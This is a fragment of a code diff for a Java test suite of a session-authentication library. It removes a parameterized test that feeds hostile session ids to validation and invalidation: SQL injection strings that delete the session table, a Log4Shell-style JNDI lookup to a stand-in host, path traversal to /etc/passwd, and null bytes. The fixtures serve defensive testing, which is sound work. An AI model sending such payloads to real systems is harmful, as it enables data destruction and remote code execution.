-        assertThat(lucia().validateSession(created.id())).isEmpty();
-    }
-
-    /** What a client can put where a session id goes: none of it is a session, none of it an error. */
-    static Stream<String> idsAClientCouldSend() {
-        return Stream.of("", " ", "\t", "\u0000", "%00", "abc\u0000", "\uD800", "a b", "a;b", "a\"b", "\u00fc",
-                "'; delete from user_session; --", "\\'; delete from user_session; --", "=", "==abc", "abc=d",
-                "x".repeat(256), "x".repeat(100_000), "${jndi:ldap://example.com/a}", "../../etc/passwd");
-    }
-
-    @ParameterizedTest
-    @MethodSource("idsAClientCouldSend")
-    void validateAndInvalidateSessionWithAnythingAClientSendsFindNothingAndChangeNothing(String id) {
-        insertUser("user-1", "ann");
-        Session kept = lucia().createSession("user-1", Map.of());
-
-        assertThat(lucia().validateSession(id)).isEmpty();
-        lucia().invalidateSession(id);
-
-        assertThat(adapter().getUserSessions("user-1")).extracting(DatabaseSession::id).containsExactly(kept.id());
-        assertThat(lucia().validateSession(kept.id())).isPresent();
+        assertThat(racing.validateSession(token)).isPresent();
+        assertThat(lucia().validateSession(token)).isEmpty();
     }
 }
